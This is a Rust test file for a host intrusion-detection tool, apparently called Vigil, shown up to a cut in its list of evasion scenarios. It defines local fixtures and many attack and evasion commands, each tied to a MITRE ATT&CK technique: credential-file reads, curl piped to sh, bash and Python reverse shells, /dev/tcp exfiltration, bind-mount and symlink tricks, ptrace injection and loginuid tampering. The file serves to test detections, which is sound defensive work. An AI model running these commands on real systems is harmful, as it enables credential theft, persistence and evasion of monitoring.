//! Attack scenarios for each built-in detection and benign administration sessions, shared by
//! the detection e2e test and `cargo xtask bench detect`. Each runs as a real login session on
//! the real kernel; fixtures (an HTTP server to download from, listeners to connect to, a
//! setuid binary, a service-account token) are real too.

use std::{
    io::{BufRead, Read, Write},
    net::TcpListener,
    path::{Path, PathBuf},
    process::Command,
    time::Duration,
};

use crate::USER;

/// One attack: the script a session runs, and the rule that must catch it.
pub struct Scenario {
    pub name: String,
    pub script: String,
    pub rule: &'static str,
    pub technique: &'static str,
}

/// The three ways an insider who knows Vigil tries to get past it (issue "evasion").
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum EvasionClass {
    /// How a file is named or reached: symlinks, `..`, directory fds, bind mounts, hard links,
    /// `/proc/<pid>/root`, a second procfs, mapped reads, a chroot escape, the raw disk.
    Naming,
    /// How a program is identified: copies, renames, a file bind-mounted over a trusted one,
    /// argv[0] and `comm` rewritten, programs run from memory, decoded payloads.
    Program,
    /// How a process leaves its session: the login uid rewritten, daemonised children, a
    /// scheduler, a container, another SSH login, work injected into a process outside it.
    Scope,
    /// How traffic leaves without looking like a connection: a datagram addressed with no
    /// connect(2), several destinations in one call, the 32-bit ABI.
    Network,
    /// How the monitor itself is reached: its maps, programs and links got by id through
    /// bpf(2), from any program, through either ABI.
    Monitor,
}

impl EvasionClass {
    pub fn name(self) -> &'static str {
        match self {
            EvasionClass::Naming => "how a file is named or reached",
            EvasionClass::Program => "how a program is identified",
            EvasionClass::Scope => "how a process leaves its session",
            EvasionClass::Network => "how traffic leaves the host",
            EvasionClass::Monitor => "how the monitor itself is reached",
        }
    }
}

/// One evasion: a scenario, its class, the canonical path its alert must name (when it is about
/// a file), and a second rule its session must raise too (when the evasion hides another act:
/// the read after leaving the session).
pub struct Evasion {
    pub class: EvasionClass,
    pub scenario: Scenario,
    pub path: Option<&'static str>,
    pub also: Option<&'static str>,
}

fn ev(class: EvasionClass, scenario: Scenario) -> Evasion {
    Evasion {
        class,
        scenario,
        path: None,
        also: None,
    }
}

impl Evasion {
    fn at(mut self, path: &'static str) -> Evasion {
        self.path = Some(path);
        self
    }
    fn also(mut self, rule: &'static str) -> Evasion {
        self.also = Some(rule);
        self
    }
}

/// The log an evasion variant edits in place (`sed -i`), removed when the fixtures go.
const EDITED_LOG: &str = "/var/log/vigil-e2e-edited.log";

/// What the scenarios need outside their sessions; removed again on drop.
pub struct Fixtures {
    pub dir: PathBuf,
    pub home: PathBuf,
    pub suid: PathBuf,
    /// A setuid-root copy of the Python interpreter (a process that makes itself root).
    pub suid_python: PathBuf,
    /// A copy of cat with CAP_DAC_READ_SEARCH, and of Python with CAP_SETUID (file
    /// capabilities, set with setcap).
    pub cap_reader: PathBuf,
    pub cap_python: PathBuf,
    pub web_port: u16,
    pub sink_port: u16,
    pub shell_port: u16,
    pub outbound_ip: String,
    made_token: bool,
    /// A terminal held open outside every scenario's session (another person's terminal).
    pub foreign_tty: String,
    /// The same process outside every session holds `/etc/shadow` open: its pid and that fd (a
    /// service's open file, which `pidfd_getfd` can copy).
    pub foreign_shadow: (u32, i32),
    tty_holder: std::process::Child,
    /// A listener on a container runtime's API socket path (`DOCKER_SOCKET`), when this host
    /// has none of its own; removed on drop.
    socket_holder: Option<std::process::Child>,
}

/// Where the container runtime rule looks for Docker's API socket.
const DOCKER_SOCKET: &str = "/run/docker.sock";
/// A directory of `capture.fold.routine` in the default configuration (its files are folded).
const ROUTINE_DIR: &str = "/usr/lib/x86_64-linux-gnu";

const TOKEN_DIR: &str = "/run/secrets/kubernetes.io/serviceaccount";

/// A tiny HTTP server: every request gets `body`.
fn serve(body: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    std::thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            let mut buf = [0u8; 4096];
            let _ = conn.read(&mut buf);
            let _ = write!(
                conn,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// A listener that, like an attacker's, sends `exit` to every shell that connects (after a
/// moment, so the shell is seen with its streams on the socket).
fn attacker() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    std::thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            std::thread::spawn(move || {
                std::thread::sleep(Duration::from_millis(800));
                let _ = conn.write_all(b"exit\n");
                let mut sink = Vec::new();
                let _ = conn.read_to_end(&mut sink);
            });
        }
    });
    port
}

/// A non-loopback address of this host (where "outbound" connections can go in a test).
fn outbound_address() -> String {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").expect("bind");
    s.connect("192.0.2.1:9").expect("route");
    s.local_addr()
        .map(|a| a.ip().to_string())
        .unwrap_or_else(|_| "127.0.0.1".into())
}

impl Fixtures {
    pub fn start(dir: &Path) -> Fixtures {
        let home = dir.join("home");
        std::fs::create_dir_all(&home).expect("home");
        let made_token = !Path::new(TOKEN_DIR).join("token").exists();
        if made_token {
            std::fs::create_dir_all(TOKEN_DIR).expect("token dir");
            std::fs::write(Path::new(TOKEN_DIR).join("token"), "eyJhbGciOi.test.token")
                .expect("token");
        }
        let suid = dir.join("suid-tool");
        std::fs::copy("/usr/bin/id", &suid).expect("copy id");
        let suid_python = dir.join("suid-py");
        let python = std::fs::canonicalize("/usr/bin/python3").expect("/usr/bin/python3");
        std::fs::copy(python, &suid_python).expect("copy python3");
        for (mode, path) in [
            ("4755", &suid),
            ("4755", &suid_python),
            ("755", &dir.to_path_buf()),
        ] {
            Command::new("chmod")
                .arg(mode)
                .arg(path)
                .status()
                .expect("chmod");
        }
        let cap_reader = dir.join("cap-reader");
        std::fs::copy("/usr/bin/cat", &cap_reader).expect("copy cat");
        let cap_python = dir.join("cap-py");
        std::fs::copy(
            std::fs::canonicalize("/usr/bin/python3").expect("python3"),
            &cap_python,
        )
        .expect("copy python3");
        for (caps, path) in [
            ("cap_dac_read_search+ep", &cap_reader),
            ("cap_setuid+ep", &cap_python),
        ] {
            let ok = Command::new("setcap")
                .arg(caps)
                .arg(path)
                .status()
                .is_ok_and(|s| s.success());
            assert!(ok, "setcap {caps} (Debian: libcap2-bin)");
        }
        let mut tty_holder = Command::new("python3")
            .args([
                "-c",
                "import os, sys, time\nm, s = os.openpty()\nf = os.open('/etc/shadow', os.O_RDONLY)\nprint(os.ttyname(s), os.getpid(), f, flush=True)\ntime.sleep(3600)",
            ])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("python3 holds a pty");
        let mut foreign_tty = String::new();
        {
            let out = tty_holder.stdout.take().expect("piped");
            std::io::BufReader::new(out)
                .read_line(&mut foreign_tty)
                .expect("pty name");
        }
        let mut held = foreign_tty.split_whitespace();
        let (foreign_tty, foreign_shadow) = match (held.next(), held.next(), held.next()) {
            (Some(tty), Some(pid), Some(fd)) => (
                tty.to_string(),
                (
                    pid.parse().expect("holder pid"),
                    fd.parse().expect("holder fd"),
                ),
            ),
            _ => panic!("the holder's line: {foreign_tty:?}"),
        };
        let sink = TcpListener::bind("0.0.0.0:0").expect("bind");
        let sink_port = sink.local_addr().map(|a| a.port()).unwrap_or(0);
        std::thread::spawn(move || for _c in sink.incoming() {});
        Fixtures {
            dir: dir.to_path_buf(),
            home,
            suid,
            suid_python,
            cap_reader,
            cap_python,
            web_port: serve("#!/bin/sh\necho downloaded-and-run\n"),
            sink_port,
            shell_port: attacker(),
            outbound_ip: outbound_address(),
            made_token,
            foreign_tty,
            foreign_shadow,
            tty_holder,
            socket_holder: docker_socket(),
        }
    }

    /// Every built-in detection's scenarios; `variants` > 1 adds other ways of doing the same.
    pub fn attacks(&self, variants: bool) -> Vec<Scenario> {
        let (web, sink, shell, ip) = (
            self.web_port,
            self.sink_port,
            self.shell_port,
            &self.outbound_ip,
        );
        let suid = self.suid.display();
        let suid_py = self.suid_python.display();
        let cap_reader = self.cap_reader.display();
        let cap_py = self.cap_python.display();
        let mut all = vec![
            s("shadow", "cat /etc/shadow > /dev/null", "credential-store-read", "T1003.008"),
            s("ssh key", "mkdir -p ~/.ssh && echo KEY > ~/.ssh/id_ed25519 && cat ~/.ssh/id_ed25519 > /dev/null", "ssh-private-key-read", "T1552.004"),
            s("cloud", "mkdir -p ~/.aws && echo k > ~/.aws/credentials && cat ~/.aws/credentials > /dev/null", "cloud-credentials-read", "T1552.001"),
            s("sa token", "cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null", "service-account-token-read", "T1528"),
            s("exfil", &format!("head -c 60000000 /dev/zero > /dev/null; exec 3<>/dev/tcp/{ip}/{sink}; sleep 0.2"), "bulk-read-then-outbound", "T1041"),
            s("sudo shell", &format!("su {USER} -s /bin/sh -c 'sudo -n -s /bin/true'"), "sudo-root-shell", "T1548.003"),
            s("setuid", &format!("su {USER} -s /bin/sh -c '{suid}'"), "unexpected-setuid-root", "T1548.001"),
            s("setuid(0)", &format!("su {USER} -s /bin/sh -c '{suid_py} -c \"import os; os.setuid(0)\"'"), "setuid-syscall-to-root", "T1548.001"),
            s("file capability", &format!("su {USER} -s /bin/sh -c '{cap_reader} /etc/hostname > /dev/null'"), "unexpected-capability-gain", "T1548"),
            s("crontab", &format!("crontab -u {USER} /dev/null"), "crontab-modified", "T1053.003"),
            s("systemd", "touch /etc/systemd/system/vigil-e2e-test.service; rm -f /etc/systemd/system/vigil-e2e-test.service", "systemd-unit-written", "T1543.002"),
            s("authorized_keys", "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", "authorized-keys-modified", "T1098.004"),
            s("bashrc", "echo 'alias ls=evil' >> ~/.bashrc", "shell-startup-modified", "T1546.004"),
            // Empty, and removed again unless it was there before: an empty preload list loads
            // nothing.
            s("ld.so.preload", "touch /etc/ld.so.preload; [ -s /etc/ld.so.preload ] || rm -f /etc/ld.so.preload", "dynamic-linker-hijack", "T1574.006"),
            s("pam.d", "echo '# vigil e2e' > /etc/pam.d/vigil-e2e-test; rm -f /etc/pam.d/vigil-e2e-test", "pam-modified", "T1556.003"),
            s("sudoers.d", "echo '# vigil e2e' > /etc/sudoers.d/vigil-e2e-test; rm -f /etc/sudoers.d/vigil-e2e-test", "sudoers-modified", "T1548.003"),
            s("useradd", "userdel vigil-e2e-acct 2>/dev/null; useradd -M -s /usr/sbin/nologin vigil-e2e-acct && userdel vigil-e2e-acct", "account-database-modified", "T1136.001"),
            s("history", "echo old > ~/.bash_history; rm -f ~/.bash_history", "shell-history-cleared", "T1070.003"),
            s("logs", "echo x >> /var/log/vigil-e2e-test.log; truncate -s 0 /var/log/vigil-e2e-test.log; rm -f /var/log/vigil-e2e-test.log", "logs-tampered", "T1070.002"),
            s("stop monitor", "pkill -0 -x vigil; true", "monitoring-stopped", "T1562.001"),
            s("curl | sh", &format!("curl -s http://127.0.0.1:{web}/x.sh | sh > /dev/null"), "download-piped-to-shell", "T1059.004"),
            s("download, run", &format!("curl -s -o ~/x.sh http://127.0.0.1:{web}/x.sh && chmod +x ~/x.sh && ~/x.sh > /dev/null"), "downloaded-file-executed", "T1105"),
            s("reverse shell", &format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{shell} 0>&1'"), "reverse-shell", "T1059.004"),
            s("process memory", "dd if=/proc/1/mem of=/dev/null bs=1 count=1 2>/dev/null; true", "process-memory-access", "T1003.007"),
        ];
        if variants {
            all.extend([
                s("shadow via grep", "grep -c root /etc/shadow > /dev/null", "credential-store-read", "T1003.008"),
                s("shadow backup", "cp /etc/shadow /tmp/.s 2>/dev/null; rm -f /tmp/.s; cat /etc/gshadow > /dev/null", "credential-store-read", "T1003.008"),
                s("host key", "cat /etc/ssh/ssh_host_ed25519_key > /dev/null 2>&1 || cat /etc/ssh/ssh_host_rsa_key > /dev/null", "ssh-private-key-read", "T1552.004"),
                s("kubeconfig", "mkdir -p ~/.kube && echo k > ~/.kube/config && base64 ~/.kube/config > /dev/null", "cloud-credentials-read", "T1552.001"),
                s("token via tar", "tar cf /tmp/vigil-e2e.tar /run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null; rm -f /tmp/vigil-e2e.tar", "service-account-token-read", "T1528"),
                s("exfil after key", &format!("mkdir -p ~/.ssh && echo K > ~/.ssh/id_rsa && cat ~/.ssh/id_rsa > /dev/null; exec 3<>/dev/tcp/{ip}/{sink}; sleep 0.2"), "bulk-read-then-outbound", "T1041"),
                s("sudo -i", &format!("su {USER} -s /bin/sh -c 'sudo -n -i true'"), "sudo-root-shell", "T1548.003"),
                s("sudo su", &format!("su {USER} -s /bin/sh -c 'sudo -n su -c true'"), "sudo-root-shell", "T1548.003"),
                s("setuid shell-ish", &format!("su {USER} -s /bin/sh -c '{suid} -u'"), "unexpected-setuid-root", "T1548.001"),
                s("setresuid(0)", &format!("su {USER} -s /bin/sh -c '{suid_py} -c \"import os; os.setresuid(0, 0, 0)\"'"), "setuid-syscall-to-root", "T1548.001"),
                s("cap_setuid python", &format!("su {USER} -s /bin/sh -c '{cap_py} -c \"import os; os.setuid(0)\"'"), "unexpected-capability-gain", "T1548"),
                s("cron.d", "echo '* * * * * root true' > /etc/cron.d/vigil-e2e-test; rm -f /etc/cron.d/vigil-e2e-test", "crontab-modified", "T1053.003"),
                s("user unit", "mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/x.service", "systemd-unit-written", "T1543.002"),
                s("authorized_keys via tee", "mkdir -p ~/.ssh && echo 'ssh-rsa AAAA y' | tee -a ~/.ssh/authorized_keys > /dev/null", "authorized-keys-modified", "T1098.004"),
                s("profile", "echo 'export X=1' >> ~/.profile", "shell-startup-modified", "T1546.004"),
                s("ld.so.conf.d", "echo /opt/vigil-e2e > /etc/ld.so.conf.d/vigil-e2e-test.conf; rm -f /etc/ld.so.conf.d/vigil-e2e-test.conf", "dynamic-linker-hijack", "T1574.006"),
                s("PAM module", &format!("cp /usr/bin/true {ROUTINE_DIR}/security/pam_vigil_e2e.so; rm -f {ROUTINE_DIR}/security/pam_vigil_e2e.so"), "pam-modified", "T1556.003"),
                s("visudo's copy", "echo '# vigil e2e' > /etc/sudoers.tmp; rm -f /etc/sudoers.tmp", "sudoers-modified", "T1548.003"),
                s("groupadd", "groupdel vigil-e2e-grp 2>/dev/null; groupadd vigil-e2e-grp && groupdel vigil-e2e-grp", "account-database-modified", "T1136.001"),
                s("history truncated", "echo old > ~/.bash_history; : > ~/.bash_history", "shell-history-cleared", "T1070.003"),
                s("log rm", "touch /var/log/vigil-e2e-old.log; rm -f /var/log/vigil-e2e-old.log", "logs-tampered", "T1070.002"),
                s("stop auditd", "systemctl stop auditd 2>/dev/null; true", "monitoring-stopped", "T1562.001"),
                s("wget | bash", &format!("curl -fsSL http://127.0.0.1:{web}/i | bash > /dev/null"), "download-piped-to-shell", "T1059.004"),
                s("download to tmp, run", &format!("curl -s -o /tmp/vigil-e2e-dl http://127.0.0.1:{web}/y && sh /tmp/vigil-e2e-dl > /dev/null; rm -f /tmp/vigil-e2e-dl"), "downloaded-file-executed", "T1105"),
                s("python reverse shell", &format!("python3 -c 'import socket,os;s=socket.create_connection((\"127.0.0.1\",{shell}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/sh\",[\"sh\"])'"), "reverse-shell", "T1059.004"),
                s("gdb attach", "gdb -p 1 -batch -ex detach > /dev/null 2>&1; true", "process-memory-access", "T1003.007"),
            ]);
        }
        all
    }

    /// Ways around the detections by an insider who has read the source, each a real session:
    /// at least 25, across the five classes.
    pub fn evasions(&self) -> Vec<Evasion> {
        use EvasionClass::*;
        let d = self.dir.display();
        let tty = &self.foreign_tty;
        let (holder, holder_fd) = self.foreign_shadow;
        // A copy of a program, made at the start of the script that uses it.
        let copy = |from: &str, name: &str| format!("cp {from} {d}/{name} && chmod 755 {d}/{name}");
        let shadow = "/etc/shadow";
        let host_key = "/etc/ssh/ssh_host_ed25519_key";
        let (sink, ip) = (self.sink_port, &self.outbound_ip);
        let key = "mkdir -p ~/.ssh && echo K > ~/.ssh/id_rsa && cat ~/.ssh/id_rsa > /dev/null";
        vec![
            // --- how a file is named or reached -------------------------------------------
            ev(Naming, s("symlink", &format!("ln -sf /etc/shadow {d}/notes && cat {d}/notes > /dev/null"), "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("dot-dot", "cat /etc/../etc/./shadow > /dev/null", "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("relative to cwd", "cd /etc && cat ./shadow > /dev/null", "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("directory fd", "python3 -c \"import os; d = os.open('/etc/ssh', os.O_RDONLY); os.read(os.open('ssh_host_ed25519_key', os.O_RDONLY, dir_fd=d), 64)\"", "ssh-private-key-read", "T1552.004")).at(host_key),
            ev(Naming, s("tar of /etc/ssh", "tar cf - /etc/ssh 2>/dev/null | cat > /dev/null", "sensitive-tree-archived", "T1560.001")).at("/etc/ssh/ssh_host_"),
            ev(Naming, s("bind mount", &format!("mkdir -p {d}/view && mount --bind /etc {d}/view && cat {d}/view/shadow > /dev/null; umount {d}/view"), "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("hard link", "ln -f /etc/gshadow /etc/vigil-e2e-notes && cat /etc/vigil-e2e-notes > /dev/null; rm -f /etc/vigil-e2e-notes", "credential-store-read", "T1003.008")).at("/etc/gshadow"),
            // The kernel folds opens of routine files (loader, locale) by inode and change
            // time: a credential file given a routine name must still be sent and caught.
            ev(Naming, s("hard link into a routine directory", &format!("ln -f /etc/shadow {ROUTINE_DIR}/libvigil-e2e.so.1 && cat {ROUTINE_DIR}/libvigil-e2e.so.1 > /dev/null; rm -f {ROUTINE_DIR}/libvigil-e2e.so.1"), "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("bind mount over a routine file", &format!("mount --bind /etc/shadow {ROUTINE_DIR}/gconv/gconv-modules.cache && cat {ROUTINE_DIR}/gconv/gconv-modules.cache > /dev/null; umount {ROUTINE_DIR}/gconv/gconv-modules.cache"), "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("/proc/self/root", "cat /proc/self/root/etc/shadow > /dev/null", "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("/proc/<pid>/cwd", "cd /etc && cat /proc/$$/cwd/shadow > /dev/null", "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("fd of the shell", "exec 3< /etc/shadow; cat /dev/fd/3 > /dev/null", "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("O_PATH then /proc/self/fd", "python3 -c \"import os; p = os.open('/etc/shadow', os.O_PATH); os.read(os.open('/proc/self/fd/%d' % p, os.O_RDONLY), 64)\"", "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("mapped, never read", "python3 -c \"import mmap; f = open('/etc/shadow', 'rb'); m = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ); m[:8]\"", "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("sendfile", "python3 -c \"import os; os.sendfile(1, os.open('/etc/shadow', os.O_RDONLY), 0, 4096)\" > /dev/null", "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("chroot escape", &format!("mkdir -p {d}/jail && python3 -c \"import os; out = os.open('/', os.O_RDONLY); os.chroot('{d}/jail'); os.fchdir(out); os.read(os.open('etc/hostname', os.O_RDONLY), 8)\""), "chroot-escape", "T1611")).at("/etc/hostname"),
            ev(Naming, s("raw disk", "dd if=$(findmnt -nvo SOURCE /) of=/dev/null bs=512 count=1 2>/dev/null", "raw-disk-read", "T1006")),
            ev(Naming, s("another process's environment", "cat /proc/1/environ > /dev/null", "other-process-environment-read", "T1552")).at("/proc/1/environ"),
            ev(Naming, s("container API socket", &connect_unix(DOCKER_SOCKET), "container-runtime-socket", "T1609")).at(DOCKER_SOCKET),
            ev(Naming, s("container API socket through a symlink", &format!("ln -sf {DOCKER_SOCKET} {d}/api && {}", connect_unix(&format!("{d}/api"))), "container-runtime-socket", "T1609")).at(DOCKER_SOCKET),
            ev(Naming, s("container API socket by a relative name", &format!("cd /run && {}", connect_unix("docker.sock")), "container-runtime-socket", "T1609")).at(DOCKER_SOCKET),
            ev(Naming, s("container API socket through /proc/self/cwd", &format!("cd /run && {}", connect_unix("/proc/self/cwd/docker.sock")), "container-runtime-socket", "T1609")).at(DOCKER_SOCKET),
            ev(Naming, s("container API socket under a bind mount", &format!("mkdir -p {d}/r && mount --bind /run {d}/r && {}; umount {d}/r", connect_unix(&format!("{d}/r/docker.sock"))), "container-runtime-socket", "T1609")).at(DOCKER_SOCKET),
            // A 64-bit process may make 32-bit syscalls (int 0x80): other numbers, registers
            // and a socketcall multiplexer, which a monitor of the native numbers never sees.
            // open_by_handle_at names no path: a file handle from name_to_handle_at, opened on
            // a mount fd.
            ev(Naming, s("file handle instead of a path", "\"$VIGIL_TEST_HELPER\" by-handle /etc/shadow", "credential-store-read", "T1003.008")).at(shadow),
            // pidfd_getfd copies another process's open file: a read with no open of its own.
            ev(Naming, s("another process's open file, copied", &format!("python3 -c \"import ctypes, os; fd = ctypes.CDLL(None).syscall(438, os.pidfd_open({holder}), {holder_fd}, 0); os.read(fd, 4096)\""), "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("32-bit open through int 0x80", "\"$VIGIL_TEST_HELPER\" int80 open /etc/shadow", "credential-store-read", "T1003.008")).at(shadow).also("compat-syscall-in-session"),
            ev(Naming, s("32-bit openat from a directory fd", "\"$VIGIL_TEST_HELPER\" int80 openat /etc/ssh ssh_host_ed25519_key", "ssh-private-key-read", "T1552.004")).at(host_key).also("compat-syscall-in-session"),
            ev(Naming, s("32-bit socketcall connect", &format!("\"$VIGIL_TEST_HELPER\" int80 connect-unix {DOCKER_SOCKET}"), "container-runtime-socket", "T1609")).at(DOCKER_SOCKET).also("compat-syscall-in-session"),
            ev(Naming, s("io_uring ring", "python3 -c \"import ctypes; p = ctypes.create_string_buffer(120); ctypes.CDLL(None, use_errno=True).syscall(425, 8, p)\"", "io-uring-in-session", "T1106")),
            ev(Naming, s("another session's terminal", &format!("timeout 0.3 cat {tty} > /dev/null; true"), "other-terminal-read", "T1056.001")),
            // --- how a program is identified ----------------------------------------------
            ev(Program, s("cat copied as sudo", &format!("{} && {d}/sudo /etc/shadow > /dev/null", copy("/usr/bin/cat", "sudo")), "credential-store-read", "T1003.008")).at(shadow),
            ev(Program, s("cat installed as unix_chkpwd", "install -m 755 /usr/bin/cat /usr/local/sbin/unix_chkpwd && /usr/local/sbin/unix_chkpwd /etc/shadow > /dev/null; rm -f /usr/local/sbin/unix_chkpwd", "credential-store-read", "T1003.008")).at(shadow),
            ev(Program, s("cat bind-mounted over ssh-keygen", "mount --bind /usr/bin/cat /usr/bin/ssh-keygen && ssh-keygen /etc/ssh/ssh_host_ed25519_key > /dev/null; umount /usr/bin/ssh-keygen", "ssh-private-key-read", "T1552.004")).at(host_key),
            ev(Program, s("argv[0] rewritten", "bash -c 'exec -a sshd cat /etc/shadow' > /dev/null", "credential-store-read", "T1003.008")).at(shadow),
            ev(Program, s("comm rewritten", "python3 -c \"import ctypes; ctypes.CDLL(None).prctl(15, b'unix_chkpwd', 0, 0, 0); open('/etc/gshadow').read()\"", "credential-store-read", "T1003.008")).at("/etc/gshadow"),
            ev(Program, s("python renamed", &format!("{} && {d}/updater -c \"open('/etc/ssh/ssh_host_ed25519_key').read()\"", copy("$(readlink -f /usr/bin/python3)", "updater")), "interpreter-reads-credentials", "T1059.006")).at(host_key),
            ev(Program, s("tar renamed", &format!("{} && {d}/backup cf - /etc/ssh 2>/dev/null | cat > /dev/null", copy("/usr/bin/tar", "backup")), "sensitive-tree-archived", "T1560.001")).at("/etc/ssh/ssh_host_"),
            ev(Program, s("decoded payload to a shell", "echo ZWNobyBoaQo= | base64 -d | sh > /dev/null", "decoded-payload-to-shell", "T1140")),
            ev(Program, s("renamed decoder to a shell", &format!("{} && echo ZWNobyBoaQo= | {d}/unpack -d | bash > /dev/null", copy("/usr/bin/base64", "unpack")), "decoded-payload-to-shell", "T1140")),
            ev(Program, s("interpreter decodes code", "python3 -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\" > /dev/null", "interpreter-decodes-code", "T1027")),
            ev(Program, s("program in memory", "python3 -c \"import os; fd = os.memfd_create('x'); os.write(fd, open('/usr/bin/true', 'rb').read()); os.execv('/proc/self/fd/%d' % fd, ['true'])\"", "program-run-from-memory", "T1620")),
            ev(Program, s("program deleted before it ran", &format!("{} && python3 -c \"import os; fd = os.open('{d}/gone', os.O_RDONLY); os.unlink('{d}/gone'); os.execv('/proc/self/fd/%d' % fd, ['gone'])\"", copy("/usr/bin/true", "gone")), "program-run-from-memory", "T1620")),
            ev(Program, s("credential copied elsewhere", &format!("cp /etc/shadow {d}/s.bak; rm -f {d}/s.bak"), "credential-file-copied", "T1552.001")),
            // --- how a process leaves its session -----------------------------------------
            ev(Scope, s("login uid unset", "echo 4294967295 > /proc/self/loginuid; cat /etc/shadow > /dev/null", "login-uid-changed", "T1562.006")).also("credential-store-read"),
            ev(Scope, s("login uid of another user", "echo 0 > /proc/self/loginuid; cat /etc/gshadow > /dev/null", "login-uid-changed", "T1562.006")).also("credential-store-read"),
            ev(Scope, s("daemonised child unsets it", "setsid -f sh -c 'echo 4294967295 > /proc/self/loginuid; cat /etc/shadow > /dev/null'; sleep 0.5", "login-uid-changed", "T1562.006")).also("credential-store-read"),
            ev(Scope, s("nsenter into another process's namespaces", &format!("nsenter -t {} -m -u -i -n -p cat /etc/shadow > /dev/null", self.tty_holder.id()), "credential-store-read", "T1003.008")).at(shadow),
            ev(Scope, s("unshare", "unshare -m -p -f --mount-proc sh -c 'cat /etc/shadow > /dev/null'", "credential-store-read", "T1003.008")).at(shadow),
            ev(Naming, s("a service's memory file through a bind mount", &format!("unshare -m sh -c 'touch /tmp/vigil-ev-mem && mount --bind /proc/{}/mem /tmp/vigil-ev-mem && exec 3</tmp/vigil-ev-mem'; rm -f /tmp/vigil-ev-mem", self.tty_holder.id()), "process-memory-access", "T1003.007")),
            ev(Naming, s("a service's memory file through a second procfs", &format!("unshare -m sh -c 'mkdir -p /tmp/vigil-ev-proc && mount -t proc proc /tmp/vigil-ev-proc && exec 3</tmp/vigil-ev-proc/{}/mem'; rmdir /tmp/vigil-ev-proc", self.tty_holder.id()), "process-memory-access", "T1003.007")),
            ev(Scope, s("code injected into a service with ptrace", &format!("\"$VIGIL_TEST_HELPER\" ptrace-seize {}", self.tty_holder.id()), "session-escape-injection", "T1055.008")).also("process-memory-access"),
            ev(Scope, s("a service attached to from python", &format!("python3 -c \"import ctypes, sys; sys.exit(ctypes.CDLL(None).ptrace(0x4206, {}, 0, 0))\"", self.tty_holder.id()), "session-escape-injection", "T1055.008")).also("process-memory-access"),
            ev(Scope, s("a service's memory written with process_vm_writev", &format!("\"$VIGIL_TEST_HELPER\" vm-rewrite {}", self.tty_holder.id()), "session-escape-injection", "T1055.008")).also("process-memory-access"),
            ev(Scope, s("a service's memory file opened for writing through a bind mount", &format!("unshare -m sh -c 'touch /tmp/vigil-ev-memw && mount --bind /proc/{}/mem /tmp/vigil-ev-memw && exec 3<>/tmp/vigil-ev-memw'; rm -f /tmp/vigil-ev-memw", self.tty_holder.id()), "session-escape-injection", "T1055.008")).also("process-memory-access"),
            ev(Scope, s("a service attached to through the 32-bit ABI", &format!("\"$VIGIL_TEST_HELPER\" int80 ptrace-seize {}", self.tty_holder.id()), "session-escape-injection", "T1055.008")).also("compat-syscall-in-session"),
            ev(Scope, s("systemd-run", "systemd-run -q --wait cat /etc/shadow > /dev/null 2>&1; true", "session-escape-scheduler", "T1053")),
            // The files that make later logins and programs the insider's, named other ways.
            ev(Naming, s("sudoers.d through a symlinked directory", &format!("ln -sfn /etc/sudoers.d {d}/sd && echo '# x' > {d}/sd/vigil-e2e-ev; rm -f /etc/sudoers.d/vigil-e2e-ev"), "sudoers-modified", "T1548.003")).at("/etc/sudoers.d/vigil-e2e-ev"),
            ev(Naming, s("ld.so.preload by a relative name", "cd /etc && touch ./ld.so.preload; [ -s /etc/ld.so.preload ] || rm -f /etc/ld.so.preload", "dynamic-linker-hijack", "T1574.006")).at("/etc/ld.so.preload"),
            ev(Naming, s("pam.d under a bind mount", &format!("mkdir -p {d}/p && mount --bind /etc/pam.d {d}/p && echo '#' > {d}/p/vigil-e2e-ev; umount {d}/p; rm -f /etc/pam.d/vigil-e2e-ev"), "pam-modified", "T1556.003")).at("/etc/pam.d/vigil-e2e-ev"),
            ev(Naming, s("a cron entry through a bind mount of /", &format!("mkdir -p {d}/r && mount --bind / {d}/r && echo '# x' > {d}/r/etc/cron.d/vigil-e2e-ev; umount {d}/r; rm -f /etc/cron.d/vigil-e2e-ev"), "crontab-modified", "T1053.003")).at("/etc/cron.d/vigil-e2e-ev"),
            ev(Naming, s("sudoers.d through a bind mount of /etc", &format!("mkdir -p {d}/e && mount --bind /etc {d}/e && echo '# x' > {d}/e/sudoers.d/vigil-e2e-ev2; umount {d}/e; rm -f /etc/sudoers.d/vigil-e2e-ev2"), "sudoers-modified", "T1548.003")).at("/etc/sudoers.d/vigil-e2e-ev2"),
            // Written elsewhere, then given its name in place: nothing is opened there.
            ev(Naming, s("a cron entry written elsewhere and renamed into place", "echo '* * * * * root true' > /var/tmp/vigil-ev-job && mv /var/tmp/vigil-ev-job /etc/cron.d/vigil-e2e-ev3; rm -f /etc/cron.d/vigil-e2e-ev3", "crontab-modified", "T1053.003")).at("/etc/cron.d/vigil-e2e-ev3"),
